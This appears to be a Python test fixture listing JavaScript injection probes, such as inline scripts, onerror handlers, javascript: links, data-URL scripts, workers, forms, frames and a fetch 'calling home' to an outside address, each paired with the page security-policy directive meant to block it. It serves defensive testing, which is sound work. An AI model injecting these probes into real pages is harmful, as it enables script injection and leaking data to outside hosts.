"""What somebody tries who has got markup of their own into a page of the app."""

from typing import Final

# What markup that somebody smuggled in might try, and the rule of the page that stops it.
PROBES: Final = {
    "inline script": (
        "script-src-elem",
        """const script = document.createElement("script");
        script.textContent = "window.struck = true";
        document.body.append(script);""",
    ),
    "event handler": (
        "script-src-attr",
        """document.body.insertAdjacentHTML(
          "beforeend", '<img src="/nothing" onerror="window.struck = true">');""",
    ),
    "javascript address": (
        "script-src-elem",
        """const link = document.createElement("a");
        link.href = "javascript:void (window.struck = true)";
        document.body.append(link);
        link.click();""",
    ),
    "script from elsewhere": (
        "script-src-elem",
        """const script = document.createElement("script");
        script.src = elsewhere;
        document.body.append(script);""",
    ),
    "script as data": (
        "script-src-elem",
        """const script = document.createElement("script");
        script.src = "data:text/javascript,window.struck = true";
        document.body.append(script);""",
    ),
    "script from text": ("script-src", "setTimeout('window.struck = true');"),
    "worker from text": (
        "worker-src",
        """const text = new Blob([`fetch("${elsewhere}")`], { type: "text/javascript" });
        new Worker(URL.createObjectURL(text));""",
    ),
    "inline style": (
        "style-src-elem",
        """const style = document.createElement("style");
        style.textContent = "body { opacity: 0 }";
        document.head.append(style);""",
    ),
    "style attribute": (
        "style-src-attr",
        """document.body.insertAdjacentHTML("beforeend", '<p style="position: fixed">x</p>');""",
    ),
    "calling home": ("connect-src", "fetch(elsewhere).catch(() => undefined);"),
    "picture from elsewhere": ("img-src", "new Image().src = elsewhere;"),
    "form to elsewhere": (
        "form-action",
        """document.body.insertAdjacentHTML("beforeend", `<form action="${elsewhere}"></form>`);
        [...document.forms].at(-1).submit();""",
    ),
    "frame": (
        "frame-src",
        """document.body.insertAdjacentHTML(
          "beforeend", `<iframe src="${elsewhere}"></iframe>`);""",
    ),
    "object": (
        "object-src",
        """document.body.insertAdjacentHTML(
          "beforeend", `<object data="${elsewhere}"></object>`);""",
    ),
    "base address": (
        "base-uri",
        """document.head.insertAdjacentHTML("beforeend", `<base href="${elsewhere}">`);""",
    ),
}
